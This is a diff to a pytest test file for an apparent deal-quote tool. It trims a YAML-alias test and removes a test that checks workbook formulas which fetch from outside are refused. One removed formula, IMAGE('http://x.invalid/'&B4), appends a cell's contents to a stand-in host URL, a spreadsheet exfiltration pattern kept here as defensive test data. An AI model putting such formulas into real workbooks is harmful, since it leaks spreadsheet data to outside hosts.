@@ -71,11 +71,9 @@ def test_a_key_given_twice_in_json_or_yaml_fails_that_deal(tmp_path):
 
 def test_yaml_aliases_are_refused(tmp_path):
     """Was: 2.4 kB of nested aliases took 45 s and 1.3 GB."""
-    text = "x: &a ['1','1','1','1','1','1','1','1','1']\n"
     (tmp_path / "deals.yaml").write_text("- deal_id: A\n  closes: &c ['1', '2']\n- deal_id: B\n  closes: *c\n")
     with pytest.raises(quotes.DealListError, match=r"aliases \(\*name, <<: \*name\) are not allowed"):
         read_deals(tmp_path / "deals.yaml")
-    assert text
 
 
 def test_a_corrupted_or_edited_quote_is_made_again_not_called_up_to_date(tmp_path):
@@ -204,16 +202,6 @@ def test_data_connections_queries_pivot_caches_and_objects_are_refused(tmp_path,
     from test_outside_templates import repacked
     result = run_with(tmp_path, repacked(NOTE_TEMPLATE, tmp_path / "conn.xlsx", change))
     assert result.returncode == 2 and f"holds {part}: a template may hold no data connections" in result.stderr
-
-
-@pytest.mark.parametrize("formula", ['=_xlfn.STOCKHISTORY("SPX",TODAY())', '=_xlfn.IMAGE("http://x.invalid/"&B4)',
-                                     '=CUBEVALUE("conn","[Measures].[x]")'])
-def test_functions_that_fetch_are_refused(tmp_path, formula):
-    wb = openpyxl.load_workbook(NOTE_TEMPLATE)
-    wb["Quote"]["A60"] = formula
-    wb.save(tmp_path / "fetch.xlsx")
-    result = run_with(tmp_path, tmp_path / "fetch.xlsx")
-    assert result.returncode == 2 and "Quote!A60 refers outside the workbook" in result.stderr
 
 
 def test_a_chart_plotting_another_sheet_is_refused(tmp_path):
